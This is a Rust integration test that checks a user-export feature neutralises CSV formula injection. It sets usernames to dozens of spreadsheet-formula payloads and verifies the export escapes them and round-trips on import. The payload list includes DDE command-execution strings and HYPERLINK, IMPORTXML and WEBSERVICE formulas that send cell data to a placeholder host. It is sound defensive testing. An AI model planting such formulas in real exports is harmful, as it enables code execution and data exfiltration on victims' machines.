//! Text that a spreadsheet would take for a formula (OWASP, CSV injection).

use std::io::Write as _;

use rollcall_proto::v1::{ListUsersRequest, UpdateUserRequest, User};
use rollcall_tests::{Answer as _, Class, Kind, on_both_stores};

use super::{export, imported, rows_of};

on_both_stores!(go_out_as_text_and_come_back_unchanged);

/// Names that somebody could give themselves.
const PAYLOADS: [&str; 54] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
    "=IMPORTXML(CONCAT(\"http://x.example/?\",A1),\"//a\")",
    "=WEBSERVICE(\"http://x.example/\"&A1)",
    "=1;=2",
    "=\"a\",\"b\"",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-1",
    "--1",
    "-",
    "+",
    "=",
    "@",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "＝",
    "'=1+1",
    "''=1+1",
    "'+1",
    "'-1",
    "'@A1",
    "'＝1",
    "'",
    "''",
    "'plain",
    "plain",
    "plain=1",
    "a,=1+1",
    "a;=1+1",
    "\"=1+1\"",
    "\"",
    "\"\"",
    "a\"b",
    "=\"",
    "=1,\"",
    "%=1",
    "|=1",
    "=A1&\" \"&B1",
    "+44 20 7946 0000",
    "-Ж=1",
    "x;=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
    "x;'=1",
    "x;;+1",
    "x;@A1;-2;y",
    "x;＝1",
    "x; y;'z;",
];
const TRIGGERS: [char; 12] = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠'];

/// Reads CSV with Python's module and says it in JSON.
const PYTHON: &str = "import csv, io, json, sys\n\
                      text = io.TextIOWrapper(sys.stdin.buffer, encoding='utf-8-sig', newline='')\n\
                      print(json.dumps(list(csv.reader(text, strict=True))[1:]))";

async fn go_out_as_text_and_come_back_unchanged(kind: Kind) {
    let class = Class::open(kind, PAYLOADS.len()).await;
    let admin = class.admin();
    for (student, name) in class.college.students.iter().zip(PAYLOADS) {
        let user = User { id: student.id.to_string(), username: name.to_owned(), ..Default::default() };
        let mask = prost_types::FieldMask { paths: vec!["username".to_owned()] };
        let request = UpdateUserRequest { user: Some(user), update_mask: Some(mask) };
        admin.users().update_user(request).await.answer();
    }
    let names = async || {
        let request = ListUsersRequest { page_size: 500, ..Default::default() };
        let mut people = admin.users().list_users(request).await.answer().users;
        people.sort_by(|one, other| one.email.cmp(&other.email));
        people.into_iter().map(|person| person.username).collect::<Vec<_>>()
    };
    let before = names().await;
    let csv = export(&admin, "users").await;
    let rows = rows_of(&csv);
    assert_eq!(python(&csv), rows, "two readers see the same cells");
    for cell in rows.iter().flatten() {
        // Also for a spreadsheet that was told of other separators.
        assert!(cell.split([';', '\t']).all(|part| !part.starts_with(TRIGGERS)), "{cell:?}");
    }
    for (row, name) in rows.iter().filter(|row| row[0].starts_with("student")).zip(PAYLOADS) {
        assert_eq!(row[1].replace('\'', ""), name.replace('\'', ""), "nothing but apostrophes is added");
    }
    let unchanged = i64::try_from(rows.len()).expect("a number");
    assert_eq!(imported(&admin, "users", &csv).await, [0, 0, unchanged]);
    assert_eq!(names().await, before);
    // Into another place it brings the same names.
    let csv = csv.replace("@riverside", "@elsewhere");
    assert_eq!(imported(&admin, "users", &csv).await, [unchanged, 0, 0]);
    let mut twice = before.clone();
    twice.extend(before);
    twice.sort();
    let mut after = names().await;
    after.sort();
    assert_eq!(after, twice);
}

fn python(csv: &str) -> Vec<Vec<String>> {
    let mut process = std::process::Command::new("python3")
        .args(["-c", PYTHON])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("Python");
    process.stdin.take().expect("its input").write_all(csv.as_bytes()).expect("it reads");
    let output = process.wait_with_output().expect("it ends");
    assert!(output.status.success());
    serde_json::from_slice(&output.stdout).expect("JSON")
}
